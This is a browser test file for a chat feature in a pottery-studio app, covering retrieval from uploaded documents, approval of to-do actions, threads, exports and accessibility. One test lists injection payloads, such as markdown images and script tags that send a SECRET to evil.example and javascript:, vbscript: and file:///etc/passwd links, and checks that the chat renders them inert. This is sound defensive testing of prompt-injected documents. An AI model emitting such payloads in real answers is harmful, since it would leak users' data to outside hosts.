import { readFile } from 'node:fs/promises'
import { textFile } from '../tests/document-files.ts'
import { violations } from './axe.ts'
import { tabTo } from './by-keyboard.ts'
import { call } from './call.ts'
import {
  answered,
  ask,
  box,
  button,
  chatPages,
  documentRow,
  log,
  openChat,
  speak,
  upload,
} from './chat-fixtures.ts'
import { expect, hydrated, test } from './fixtures.ts'
import { inDatabase } from './in-database.ts'
import { languages, tagOf, textIn } from './texts.ts'

const handbook = {
  en: {
    text: 'The kiln is heated to 1240 degrees for stoneware. Cooling takes two days.',
    question: 'To how many degrees is the kiln heated for stoneware?',
  },
  de: {
    text: 'Der Ofen wird für Steinzeug auf 1240 Grad geheizt. Das Abkühlen dauert zwei Tage.',
    question: 'Auf wie viel Grad wird der Ofen für Steinzeug geheizt?',
  },
  es: {
    text: 'El horno se calienta a 1240 grados para el gres. Enfriarlo tarda dos días.',
    question: '¿A cuántos grados se calienta el horno para el gres?',
  },
  pt: {
    text: 'O forno é aquecido a 1240 graus para o grés. O resfriamento leva dois dias.',
    question: 'A quantos graus o forno é aquecido para o grés?',
  },
}

for (const language of languages) {
  const t = textIn(language)
  test(
    `without a key all three pages answer: posts are looked up, a to-do waits for one's word, a document is quoted and opens at the quotation: ${language}`,
    tagOf(language),
    async ({ page, enter, person, write }) => {
      await speak(page, language)
      await enter(person)
      await write('Kiln opening on Thursday')
      for (const path of chatPages.slice(0, 2)) {
        await openChat(page, path)
        await expect(page.getByText(t('ai:builtIn.name'))).toBeVisible()
        await log(page)
          .getByRole('button', { name: t('chat:suggestions.posts.ask') })
          .click()
        await answered(page)
        await expect(log(page).getByText(t('chat:tools.newestPosts'))).toBeVisible()
        await expect(log(page).getByText('Kiln opening on Thursday').first()).toBeVisible()
        await expect(page).toHaveURL(/thread=/)
        await ask(page, t('chat:suggestions.addTodo.ask'))
        await expect(log(page).getByText(t('chat:approval.addTodo'))).toBeVisible()
        await button(page, t('chat:approval.refuse')).click()
        await expect(log(page).getByText(t('chat:tools.refused'))).toBeVisible()
        await answered(page)
        await ask(page, t('chat:suggestions.addTodo.ask'))
        await button(page, t('chat:approval.approve')).click()
        await expect(log(page).getByRole('link', { name: t('chat:tools.openTodos') })).toBeVisible()
        await page.reload()
        await hydrated(page)
        await expect(log(page).getByRole('link', { name: t('chat:tools.openTodos') })).toBeVisible()
      }
      await openChat(page, chatPages[2])
      await upload(page, { 'kiln.md': textFile(`# Kiln\n\n${handbook[language].text}\n`) })
      await expect(documentRow(page, 'kiln.md').getByText(t('documents:status.ready'))).toBeVisible({
        timeout: 40_000,
      })
      await ask(page, handbook[language].question)
      const isFound = log(page).getByText(t('chat:retrieval.answer'), { exact: true })
      await expect(
        isFound.or(log(page).getByText(t('chat:retrieval.possible'), { exact: true })).first(),
      ).toBeVisible()
      await log(page)
        .getByRole('button', { name: t('chat:sources.open', { number: '1', name: 'kiln.md', page: '1' }) })
        .first()
        .click()
      await expect(page.getByRole('dialog').locator('mark')).toContainText('1240')
      await page.keyboard.press('Escape')
      await ask(page, 'Zyxwv qwrtp?')
      await expect(log(page).getByText(t('chat:retrieval.none'), { exact: true })).toBeVisible()
    },
  )
}

test('by keyboard alone: ask, approve, copy', async ({ page, enter, person }) => {
  const t = textIn('pt')
  await speak(page, 'pt')
  await enter(person)
  await openChat(page, chatPages[1])
  await tabTo(page, box(page))
  await page.keyboard.type(t('chat:suggestions.addTodo.ask'))
  await page.keyboard.press('Enter')
  await answered(page)
  // Backwards from the field: past what can be done with the answer, to the two buttons, the second first.
  await page.keyboard.press('Shift+Tab')
  await page.keyboard.press('Shift+Tab')
  await expect(button(page, t('chat:approval.refuse'))).toBeFocused()
  await page.keyboard.press('Shift+Tab')
  await page.keyboard.press('Enter')
  await expect(log(page).getByRole('link', { name: t('chat:tools.openTodos') })).toBeVisible()
  await expect(log(page)).toHaveAttribute('aria-live', 'off')
  await expect(page.getByText(t('chat:transcript.done'))).toBeAttached()
})

test('the three pages break no accessibility rule: empty, answered, asking, with their sheets on a phone', async ({
  page,
  enter,
  person,
}) => {
  const t = textIn('en')
  await enter(person)
  for (const path of chatPages) {
    await openChat(page, path)
    expect(await violations(page), path).toEqual([])
    await ask(page, t('chat:suggestions.createPost.ask'))
    expect(await violations(page), `${path}, answered`).toEqual([])
  }
  await page.setViewportSize({ width: 360, height: 740 })
  await button(page, t('chat:threads.open')).click()
  await page.getByRole('dialog').waitFor()
  expect(await violations(page), 'the sheet of the threads').toEqual([])
})

const poison = [
  '![a](https://evil.example/a.png?d=SECRET)',
  '<img src="https://evil.example/b.png" onerror="fetch(\'https://evil.example/c\')">',
  '[click](javascript:alert(1)) <a href="javascript:alert(2)">here</a>',
  '<script>fetch("https://evil.example/d")</script><iframe src="https://evil.example/e"></iframe>',
  '![b][r] <svg onload="alert(3)"><style>@import "https://evil.example/f"</style>',
  '[r]: https://evil.example/g.png',
  '<link rel="preload" as="image" href="https://evil.example/h.png"> ![x](//evil.example/i.png)',
  '[data](data:text/html,<script>alert(4)</script>) [v](vbscript:msgbox(5)) [f](file:///etc/passwd)',
]

test('what a poisoned document or a question says is shown as text: nothing is fetched from elsewhere, nothing runs, no link leads to a script', async ({
  page,
  enter,
  person,
  baseURL,
}) => {
  const t = textIn('en')
  const foreign: string[] = []
  page.on(
    'request',
    (request) =>
      !request.url().startsWith(baseURL ?? '') &&
      /^https?:/.test(request.url()) &&
      foreign.push(request.url()),
  )
  page.on('dialog', (dialog) => foreign.push(dialog.message()))
  await enter(person)
  await openChat(page, chatPages[2])
  await upload(page, {
    'poison.md': textFile(
      poison.map((line, at) => `The secret glaze number ${at} is celadon ${line} celadon.`).join('\n\n'),
    ),
  })
  await expect(documentRow(page, 'poison.md').getByText(t('documents:status.ready'))).toBeVisible({
    timeout: 40_000,
  })
  for (const [at, line] of poison.entries()) {
    await ask(page, `What is the secret glaze number ${at}? ${line}`)
    await expect(
      log(page).locator(
        'img, iframe, script, style, svg[onload], a[href^="javascript:"], a[href^="data:"], a[href^="vbscript:"]',
      ),
    ).toHaveCount(0)
  }
  await expect(log(page).getByText('celadon').first()).toBeVisible()
  for (const rel of await log(page)
    .locator('a[href^="http"]')
    .evaluateAll((links) => links.map((link) => link.getAttribute('rel'))))
    expect(rel).toContain('noopener')
  await page.reload()
  await hydrated(page)
  expect(foreign).toEqual([])
})

for (const language of ['en', 'de'] as const) {
  const t = textIn(language)
  test(
    `threads are found, renamed, deleted and brought back, also in the sheet of a phone: ${language}`,
    tagOf(language),
    async ({ page, enter, person }) => {
      await speak(page, language)
      await enter(person)
      await openChat(page, chatPages[1])
      await ask(page, t('chat:suggestions.todos.ask'))
      await page
        .getByRole('link', { name: t('chat:threads.new') })
        .first()
        .click()
      await expect(log(page).getByRole('article')).toHaveCount(0)
      await ask(page, t('chat:suggestions.posts.ask'))
      const list = page.getByRole('navigation', { name: t('chat:threads.title') })
      await expect(list.getByRole('listitem')).toHaveCount(2)
      // Each thread has its own draft, and what was sent is none.
      await box(page).fill('Unsent')
      await list.getByRole('link', { name: t('chat:suggestions.todos.ask') }).click()
      await expect(log(page)).toContainText(t('chat:suggestions.todos.ask'))
      await expect(box(page)).toHaveValue('')
      await list.getByRole('link', { name: t('chat:suggestions.posts.ask') }).click()
      await expect(box(page)).toHaveValue('Unsent')
      await box(page).fill('')
      await button(page, t('chat:threads.menu', { title: t('chat:suggestions.todos.ask') })).click()
      await page.getByRole('menuitem', { name: t('chat:threads.rename') }).click()
      await page.locator('#title').fill('Zinnober')
      await button(page, t('chat:rename.submit')).click()
      await expect(list.getByRole('link', { name: 'Zinnober' })).toBeVisible()
      await page.getByRole('searchbox', { name: t('chat:threads.search') }).fill('zinn')
      await expect(list.getByRole('listitem')).toHaveCount(1)
      await list.getByRole('link', { name: 'Zinnober' }).click()
      await expect(page.getByRole('heading', { name: 'Zinnober' })).toBeVisible()
      await page.setViewportSize({ width: 360, height: 740 })
      await button(page, t('chat:threads.open')).click()
      const sheet = page.getByRole('dialog')
      await button(sheet, t('chat:threads.menu', { title: 'Zinnober' })).click()
      await page.getByRole('menuitem', { name: t('chat:threads.delete') }).click()
      await expect(page).not.toHaveURL(/thread=/)
      await button(page, t('chat:threads.undo')).click()
      await expect(page.getByText(t('chat:threads.restored'))).toBeVisible()
      await expect(sheet.getByRole('link', { name: 'Zinnober' })).toBeVisible()
    },
  )
}

test('a limit that is nearly used up is said once, not again in the next thread', async ({
  page,
  enter,
  person,
}) => {
  const t = textIn('en')
  await enter(person)
  await openChat(page, chatPages[1])
  await ask(page, 'Show my to-dos')
  await inDatabase(
    `update limit_counter set count = 17 where key = (select 'chat.ask:' || id from "user" where email = $1)`,
    [person.email],
  )
  await ask(page, 'Show the latest posts')
  const said = page.getByText(t('chat:usage.near'))
  await expect(said).toBeVisible()
  await expect(said).toHaveCount(0, { timeout: 10_000 })
  await page
    .getByRole('link', { name: t('chat:threads.new') })
    .first()
    .click()
  await expect(log(page).getByRole('article')).toHaveCount(0)
  await page.waitForLoadState('networkidle')
  await expect(said).toHaveCount(0)
})

test('a chat is kept as Markdown and as JSON, with its sources, on all three pages', async ({
  page,
  enter,
  person,
}) => {
  const t = textIn('en')
  await enter(person)
  await openChat(page, chatPages[2])
  await upload(page, { 'kiln.md': textFile(`# Kiln\n\n${handbook.en.text}\n`) })
  await expect(documentRow(page, 'kiln.md').getByText(t('documents:status.ready'))).toBeVisible({
    timeout: 40_000,
  })
  const questions = ['Show the latest posts', 'Show my to-dos', handbook.en.question]
  for (const [at, path] of chatPages.entries()) {
    const question = questions[at] ?? ''
    await openChat(page, path)
    await ask(page, question)
    const keep = async (entry: string) => {
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        (async () => {
          await button(page, t('chat:threads.menu', { title: question })).click()
          await page.getByRole('menuitem', { name: entry }).click()
        })(),
      ])
      return { name: download.suggestedFilename(), text: await readFile(await download.path(), 'utf8') }
    }
    const markdown = await keep(t('chat:threads.asMarkdown'))
    expect(markdown.name).toBe(`${question.replaceAll('?', '')}.md`)
    expect(markdown.text).toContain(`# ${question}`)
    expect(markdown.text).toContain(`> ${question}`)
    expect(markdown.text).toContain(
      at === 2
        ? String.raw`- \[1\] kiln.md, page 1`
        : t(at === 0 ? 'chat:tools.newestPosts' : 'chat:tools.listTodos'),
    )
    const json = await keep(t('chat:threads.asJson'))
    expect(JSON.parse(json.text)).toMatchObject({
      title: question,
      messages: [{ role: 'user' }, { role: 'assistant', model: { isBuiltIn: true } }],
    })
  }
})

test('a question is changed and answered again, and every version can be turned to', async ({
  page,
  enter,
  person,
}) => {
  const t = textIn('en')
  await enter(person)
  for (const path of chatPages.slice(0, 2)) {
    await openChat(page, path)
    await ask(page, 'Show my to-dos')
    await button(page, t('chat:message.edit')).click()
    await page.locator('textarea[name=question]').fill('Show the latest posts')
    await page.keyboard.press('Enter')
    await answered(page)
    await expect(log(page).getByText(t('chat:versions.place', { at: '2', of: '2' }))).toBeVisible()
    await expect(log(page).getByText(t('chat:tools.newestPosts'))).toBeVisible()
    await button(page, t('chat:message.again')).click()
    await expect(log(page).getByText(t('chat:versions.place', { at: '2', of: '2' }))).toHaveCount(2)
    await answered(page)
    await button(page, t('chat:versions.previous')).first().click()
    await expect(log(page).getByText('Show my to-dos')).toBeVisible()
    await expect(log(page).getByText(t('chat:tools.listTodos'))).toBeVisible()
  }
})

test('a chat that was deleted elsewhere says so when one goes on with it, and its words are not lost', async ({
  page,
  enter,
  person,
  watch,
}) => {
  watch.expectProblem(/404|errors:notFound/)
  const t = textIn('en')
  await enter(person)
  for (const path of chatPages.slice(0, 2)) {
    await openChat(page, path)
    await ask(page, 'Show my to-dos')
    await call(page, 'chats.delete', { id: new URL(page.url()).searchParams.get('thread') ?? '' })
    await box(page).fill('Show the latest posts')
    await box(page).press('Enter')
    await expect(page.getByText(t('chat:failure.gone'))).toBeVisible()
    await button(page, t('chat:failure.takeBack')).click()
    await expect(box(page)).toHaveValue('Show the latest posts')
  }
})
